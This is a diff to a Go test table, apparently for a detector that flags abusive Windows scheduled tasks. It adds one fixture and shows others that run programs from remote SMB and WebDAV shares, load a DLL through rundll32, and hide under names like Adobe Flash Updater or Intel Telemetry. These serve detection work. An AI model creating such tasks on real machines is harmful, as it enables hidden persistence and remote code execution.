@@ -177,6 +177,7 @@ func TestAbuseReachesMedium(t *testing.T) {
 		{what: "conhost", name: `\Console`, command: "conhost.exe", arguments: `--headless cmd /c C:\ProgramData\a.bat`, account: "ann"},
 		{what: "a share", name: `\Agent`, command: `\\203.0.113.9\share\a.exe`, triggers: "LogonTrigger", account: "ann"},
 		{what: "WebDAV", name: `\Agent`, command: "rundll32.exe", arguments: `\\203.0.113.9@80\DavWWWRoot\a.dll,Entry`, account: "ann"},
+		{what: "a program of a web server", name: `\Agent`, command: `\\files@SSL@8443\DavWWWRoot\a.exe`, account: "ann"},
 		{what: "Public", name: `\Adobe Flash Updater`, command: `C:\Users\Public\flash.exe`, triggers: "LogonTrigger", account: "ann"},
 		{what: "Temp", name: `\Chrome`, command: `C:\Users\ann\AppData\Local\Temp\chrome.exe`, triggers: "TimeTrigger PT1M", account: "ann"},
 		{what: "ProgramData as SYSTEM", name: `\Intel Telemetry`, command: `C:\ProgramData\Intel\igfx.exe`, principal: "S-1-5-18", triggers: "BootTrigger", account: "ann"},
